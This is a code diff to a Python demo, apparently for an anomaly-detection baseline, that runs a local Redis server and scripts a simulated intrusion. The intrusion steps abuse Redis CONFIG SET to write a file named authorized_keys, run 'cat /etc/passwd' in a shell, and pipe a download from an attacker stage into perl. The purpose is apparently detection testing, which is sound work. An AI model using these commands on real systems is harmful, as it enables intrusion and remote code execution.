@@ -4,10 +4,12 @@ import random
 import socket
 import threading
 import time
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
+from contextlib import contextmanager
+from functools import partial
 
 from baseline.demo.attacker import attacker
-from baseline.demo.service import Service
+from baseline.demo.service import Service, Step
 
 _PAUSE = 0.002
 """Seconds between commands of one client."""
@@ -26,6 +28,9 @@ class Redis(Service):
             "bind": "127.0.0.1",
             "dir": self.folder,
             "appendonly": "yes",
+            # So that the file is rewritten every few seconds, not for the first time after an hour:
+            # what is not seen in learning is not normal.
+            "auto-aof-rewrite-min-size": "1mb",
             "save": "5 100",
         }
         arguments = [str(word) for name, value in options.items() for word in (f"--{name}", value)]
@@ -52,17 +57,33 @@ class Redis(Service):
                         short.command("INFO")
                 time.sleep(_PAUSE * choose.expovariate(1))
 
-    def intrusion(self) -> Iterator[str]:
+    @contextmanager
+    def intrusion(self) -> Iterator[Sequence[Step]]:
         """Files through redis's own commands, then a shell inside the cgroup."""
-        with attacker() as stage, _Client(self.port) as client:
-            yield "has redis write a file elsewhere"
-            client.command("CONFIG", "SET", "dir", "/var/tmp")  # noqa: S108 - the intruder's choice
-            client.command("CONFIG", "SET", "dbfilename", "baseline-demo.rdb")
+        with attacker() as stage:
+            yield [
+                Step("has redis write a file elsewhere", self._write_elsewhere),
+                Step("has a shell in the cgroup", partial(self._shell, "id; cat /etc/passwd")),
+                Step(
+                    f"downloads a tool from {stage}",
+                    partial(self._shell, f"curl -s -o /dev/null {stage}"),
+                ),
+                Step(
+                    "runs a program from memory that is in no file",
+                    partial(self._shell, f"curl -s {stage} | perl"),
+                ),
+            ]
+
+    def _write_elsewhere(self) -> None:
+        elsewhere = self.folder / "elsewhere"
+        elsewhere.mkdir()
+        with _Client(self.port) as client:
+            client.command("CONFIG", "SET", "dir", str(elsewhere))
+            client.command("CONFIG", "SET", "dbfilename", "authorized_keys")
             client.command("SAVE")
-            yield "has a shell in the cgroup"
-            self.cgroup.run(["/bin/sh", "-c", "id; cat /etc/passwd; rm /var/tmp/baseline-demo.rdb"])
-            yield f"downloads a tool from {stage} and runs it from memory"
-            self.cgroup.run(["/bin/sh", "-c", f"curl -s {stage} | perl"])
+
+    def _shell(self, command: str) -> None:
+        self.cgroup.run(["/bin/sh", "-c", command])
 
 
 class _Client:
